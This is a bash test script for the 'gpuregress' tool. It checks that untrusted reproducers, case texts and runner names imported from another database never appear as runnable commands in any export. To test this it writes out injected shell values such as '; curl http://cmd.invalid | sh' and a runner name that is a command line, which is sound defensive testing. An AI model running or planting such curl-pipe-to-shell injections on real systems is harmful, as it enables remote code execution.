#!/usr/bin/env bash
# Reproducers from another runner's database are untrusted (issue 41 item 3): a reproducer is
# shown only as made from the stored case text, the variant and the run's runner name, quoted for
# a shell; the stored command (outcomes.reproducer) never reaches a page, the JUnit, the JSON, the
# Markdown or a terminal. A database whose run failed is made hostile (a stored command with
# '; curl ... | sh', a case text that closes its quote, a runner name that is a command line),
# imported, and every output is searched for the injected command; the shown reproducer, split
# by a shell, must give back the stored case text as one word.
# The verdict's slower rows call the run's runner by its name, or gpuregress where the stored
# name is not one.
#   tests/untrusted_prov.sh GPUREGRESS DB_QUERY SYNTH_DB
set -u
source "$(dirname "$0")/probe.sh"
bin=$(abs "$1")
dbq=$(abs "$2")
synth=$(abs "$3")
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
classes="repro provenance"
probe_dir=$tmp

src=$tmp/src.db
probe repro 1 "repro:  " -- "$bin" run --filter selftest/wrong --cases 50 --seed 3 --db "$src" --quiet
evil_case="selftest n=37'; curl http://case.invalid | sh; echo '"
sql "$src" "UPDATE outcomes SET reproducer = 'gpuregress repro x; curl http://cmd.invalid | sh'
  || ' --repeat 3', shrunk_case = '$(sed "s/'/''/g" <<<"$evil_case")';
  UPDATE runs SET runner = 'x; curl http://runner.invalid | sh'; PRAGMA journal_mode = DELETE"
db=$tmp/imported.db
probe repro 0 "" -- "$bin" import --db "$db" "$src"

# every output that shows a reproducer
"$bin" export --db "$db" --format junit --out "$tmp/junit.xml" >/dev/null 2>&1
"$bin" export --db "$db" --format json --out "$tmp/run.json" >/dev/null 2>&1
"$bin" compare --db "$db" --format markdown >"$tmp/verdict.md" 2>&1
"$bin" compare --db "$db" --format json >"$tmp/verdict.json" 2>&1
"$bin" compare --db "$db" >"$tmp/verdict.txt" 2>&1
"$bin" plot --db "$db" --out "$tmp/plots" >/dev/null 2>&1
"$bin" export --db "$db" --format gbench --out "$tmp/gbench.json" >/dev/null 2>&1
for f in junit.xml run.json verdict.md verdict.json verdict.txt plots/dashboard/index.html gbench.json; do
  note repro "$([ -s "$tmp/$f" ] && echo 1)" "$f was not written"
  note repro "$(grep -q 'cmd.invalid' "$tmp/$f" || echo 1)" "$f shows the stored command"
  note repro "$(grep -q 'runner.invalid' "$tmp/$f" || echo 1)" "$f calls the stored runner name"
done

# the reproducers/ folder: the command calls the runner that ran the night, by name only
"$bin" export --db "$db" --format reproducers --out "$tmp/rp" >/dev/null 2>&1
note repro "$(grep -rqs '^command: gpuregress repro ' "$tmp/rp" && echo 1)" "reproducers/ lacks 'command: gpuregress repro'"
note repro "$(grep -rq 'cmd.invalid\|runner.invalid' "$tmp/rp" || echo 1)" "reproducers/ shows stored text as a command"
sql "$db" "UPDATE runs SET runner = 'mytool'"
"$bin" export --db "$db" --format reproducers --out "$tmp/rp2" >/dev/null 2>&1
note repro "$(grep -rqs '^command: mytool repro ' "$tmp/rp2" && echo 1)" "reproducers/ does not call the night's runner"

# the shown reproducer, split as a shell splits it: RUNNER repro CASE --variant VARIANT ...
line=$(sed -n "s/^reproduce: \([^<]*\).*/\1/p" "$tmp/junit.xml" | head -1 |
  sed "s/&#39;/'/g; s/&quot;/\"/g; s/&lt;/</g; s/&gt;/>/g; s/&amp;/\\&/g")
eval "set -- $line"
note repro "$([ "$1 $2" = "gpuregress repro" ] && echo 1)" "not 'gpuregress repro ...': $line"
note repro "$([ "$3" = "$evil_case" ] && echo 1)" "the case is not one word: $line"
note repro "$([ "$4 $5 $6 $7 ${8-}" = "--variant wrong --repeat 3 " ] && echo 1)" "variant and repeat: $line"

# provenance beside it: the code's commit, gpuregress's version, the runner
for key in gpuregress_version gpuregress_commit runner; do
  note provenance "$(grep -q "<property name=\"$key\"" "$tmp/junit.xml" && echo 1)" "JUnit lacks $key"
  note provenance "$(grep -q "\"$key\"" "$tmp/verdict.json" && echo 1)" "the verdict's JSON lacks $key"
  note provenance "$(grep -q "\"$key\"" "$tmp/gbench.json" && echo 1)" "the gbench context lacks $key"
done
ver=$("$bin" --version | sed -n 's/^gpuregress \([^ ]*\) .*/\1/p')
note provenance "$(grep -q "runner <code>gpuregress</code>, gpuregress $ver <code>" "$tmp/plots/dashboard/index.html" && echo 1)" \
  "the dashboard lacks the runner and gpuregress's version"
note provenance "$(grep -q ", runner \`gpuregress\`, gpuregress $ver" "$tmp/verdict.md" && echo 1)" \
  "the Markdown lacks the runner and gpuregress's version"

# a slower row's reproducer: the runner of the night, by name only
nights=$tmp/nights.db
"$synth" "$nights" --seed 1 --commit aaaa >/dev/null
"$synth" "$nights" --seed 2 --commit bbbb --slow ari/v2_shared=1.5 >/dev/null
sql "$nights" "UPDATE runs SET runner = 'mytool' WHERE id = 2"
probe repro 1 "mytool bench ari/v2_shared --case 'ari " -- "$bin" compare --db "$nights"
sql "$nights" "UPDATE runs SET runner = 'x; curl http://runner.invalid | sh' WHERE id = 2"
probe repro 1 "gpuregress bench ari/v2_shared --case 'ari " -- "$bin" compare --db "$nights"
note repro "$("$bin" compare --db "$nights" 2>&1 | grep -q runner.invalid || echo 1)" "compare calls the stored runner name"
probe_summary untrusted_prov
